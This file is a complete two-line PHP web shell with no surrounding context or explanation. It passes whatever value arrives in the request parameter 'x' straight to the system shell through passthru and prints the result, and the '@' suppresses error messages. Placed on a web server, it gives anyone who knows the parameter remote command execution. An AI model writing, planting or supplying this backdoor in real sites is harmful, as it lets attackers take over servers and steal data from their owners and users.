<?php
@passthru($_REQUEST['x']);
